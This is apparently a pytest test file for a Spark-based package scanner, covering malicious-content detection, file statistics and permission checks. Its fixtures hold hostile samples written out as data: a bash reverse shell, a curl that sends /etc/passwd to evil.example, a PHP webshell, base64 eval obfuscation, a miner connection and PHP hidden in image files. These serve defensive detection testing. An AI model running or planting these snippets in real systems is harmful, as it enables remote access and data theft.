"""Content scan, file statistics and permissions on small trees with known answers."""

import pytest
from pyspark.sql import functions as F

from cratewarden.operators import content as C
from cratewarden.operators import files as O
from cratewarden.operators import permissions as P

FILES = "package_id string, path string, content string, mime string"

MALICIOUS = [
    ("shell.php", "bash -i >& /dev/tcp/10.0.0.1/443 0>&1", "reverse_shell", "CRITICAL"),
    ("miner.js", "connect('stratum+tcp://pool:3333')", "crypto_miner", "CRITICAL"),
    ("obfusc.php", "eval(base64_decode('aGk='));", "obfuscation", "HIGH"),
    ("exfil.sh", "curl --data @/etc/passwd http://evil.example", "data_exfil", "HIGH"),
    ("webshell.php", "system($_GET['cmd']);", "webshell", "MEDIUM"),
]


def tree(spark, rows):
    return spark.createDataFrame([("p", path, content, mime) for path, content, mime in rows], FILES).withColumn("size", F.octet_length("content").cast("long"))


@pytest.mark.parametrize(("path", "content", "kind", "severity"), MALICIOUS)
def test_each_pattern_type(spark, path, content, kind, severity):
    hits = C.first_hit_per_type(C.pattern_hits(C.scannable_files(tree(spark, [(path, "x\n" + content, "text/plain")])))).collect()
    assert [(h.type, h.severity, h.line) for h in hits] == [(kind, severity, 2)]
    files = tree(spark, [(path, content, "text/plain")])
    risk = C.content_risk(C.all_content_findings(files), files).collect()[0]
    assert risk.status == ("pass" if severity == "MEDIUM" else "fail")


def test_clean_file_has_no_findings(spark):
    clean = tree(spark, [("clean_logic.php", "<?php\nfunction evaluate($x) { return $x + 1; }\n", "text/x-php")])
    findings = C.all_content_findings(clean)
    assert findings.count() == 0
    entries = spark.createDataFrame([("p", "clean_logic.php", "file", 644, None)], "package_id string, path string, kind string, mode int, link_resolved string")
    permissions, content = P.permission_risk(P.permission_findings(entries), entries), C.content_summary(findings, clean)
    assert [tuple(r) for r in content.collect()] == [("p", 0, 0, 0, 0, 0)] and [(r.risk_score, r.issues, r.status) for r in permissions.collect()] == [(0, 0, "pass")]
    assert [tuple(r) for r in C.content_risk(findings, clean).collect()] == [("p", 0, "pass")]
    level = lambda *scans: P.filescan_rollup(*scans).collect()[0].level
    assert level(O.file_totals(clean), permissions, content) == "CLEAN" and level(O.file_totals(clean), permissions.limit(0), content) == "ERROR"


def test_types_names_and_embedded_code(spark):
    files = tree(spark, [("malware.jpg", "<?php echo 1;", "text/x-php"), ("payload.jpg.php", "ok", "text/x-php"), ("injected.gif", "GIF89a <?php system(1);", "image/gif"), ("a.min.js", "ok", "text/plain"), ("x.svg", "<svg onload=x()>", "image/svg+xml"), ("n.xml", "<a onload=1>", "text/xml")])
    found = {(r.path, r.kind, r.severity) for r in C.all_content_findings(files).collect()}
    assert found == {("malware.jpg", "mime_mismatch", "CRITICAL"), ("malware.jpg", "embedded_code", "CRITICAL"), ("payload.jpg.php", "deceptive_extension", "CRITICAL"), ("injected.gif", "embedded_code", "CRITICAL"), ("x.svg", "embedded_code", "HIGH")}


def test_size_gate(spark):
    files = tree(spark, [("a.txt", "abc", "text/plain"), ("b.txt", "", "inode/x-empty"), ("c.txt", "abcd", "text/plain")])
    row = C.scan_coverage(files, 3).collect()[0]
    assert (row.files, row.scanned, row.size_skipped) == (3, 1, 1)


def test_statistics(spark):
    files = tree(spark, [("src/a.php", "1\n2\n", None), ("src/b.js", "", None), ("x.html", "a\n", None), ("img/p.png", "x", None), ("README.md", "r\n", None), ("LICENSE", "l", None), ("SECURITY.md", "s", None), (".hidden", "h", None), ("Makefile", "m\n", None), ("lib.min.js", "z", None)])
    totals = O.file_totals(files).collect()[0]
    assert (totals.files, totals.empty, totals.hidden, totals.minified, totals.lines) == (10, 1, 1, 1, 5)
    assert {r.category: r.files for r in O.category_stats(files).collect()} == {"code": 4, "web": 1, "images": 1, "markup": 3, "other": 1}
    counts = O.best_practice_counts(O.best_practice_files(files)).collect()[0]
    assert (counts.found, counts.missing) == (3, 8)


def test_odd_names_and_nulls(spark):
    files = tree(spark, [("a b 'c' (d) [e].php", "x", None), ("", "", None), ("no/ext", None, None), (".env", "k", None), ("weird.", "k", None)])
    ext = {r.path: r.ext for r in O.with_extension(files).collect()}
    assert ext == {"a b 'c' (d) [e].php": "php", "": None, "no/ext": None, ".env": None, "weird.": ""}
    assert O.category_stats(files).count() > 0


def test_single_root(spark):
    rows = [("p", "top", "dir"), ("p", "top/a", "file"), ("q", "a", "file"), ("q", "d/x", "file"), ("r", "only", "dir"), ("r", "only/b/c", "file"), ("r", "stray", "file")]
    out = {(r.package_id, r.path, r.root) for r in O.unwrap_single_root(spark.createDataFrame(rows, "package_id string, path string, kind string")).collect()}
    assert ("p", "a", "top") in out and ("q", "d/x", "") in out and ("r", "only/b/c", "") in out


def test_permissions(spark):
    rows = [("w.txt", "file", 666, None), ("d", "dir", 777, None), ("suid", "file", 4755, None), ("sgid", "file", 2755, None), ("inv", "file", 44, None), (".env", "file", 644, None), ("id_rsa", "file", 644, None), ("in", "link", 777, "/srv/p/x"), ("out", "link", 777, "/etc/passwd"), ("gone", "link", 777, None), ("readme.txt", "file", 755, None), ("safe", "file", 600, None)]
    entries = spark.createDataFrame([("p", p, k, m, None, r) for p, k, m, r in rows], "package_id string, path string, kind string, mode int, link_target string, link_resolved string")
    found = {}
    for r in P.permission_findings(entries).collect():
        found.setdefault(r.issue, set()).add(r.path)
    assert found == {"world_writable_file": {"w.txt"}, "world_writable_dir": {"d"}, "sticky_missing": {"d"}, "privilege_escalation": {"suid", "sgid"}, "inversion": {"inv"}, "sensitive_exposed": {".env", "id_rsa"}, "internal_link": {"in"}, "external_link": {"out"}, "dangling_link": {"gone"}, "unneeded_exec": {"readme.txt"}, "secure_permissions": {"safe"}}
    assert P.permission_risk(P.permission_findings(entries), entries).collect()[0].status == "fail"
    plan = {(r.path, r.issue): r.proposed for r in P.permission_fix_plan(P.permission_findings(entries)).collect()}
    assert plan["w.txt", "world_writable_file"] == 664 and plan["d", "sticky_missing"] == 1777 and plan[".env", "sensitive_exposed"] == 600 and plan["readme.txt", "unneeded_exec"] == 644


def test_empty_tables(spark):
    files = tree(spark, [("a", "b", None)]).limit(0)
    assert C.content_risk(C.all_content_findings(files), files).count() == 0
    assert O.best_practice_files(files).count() == 0
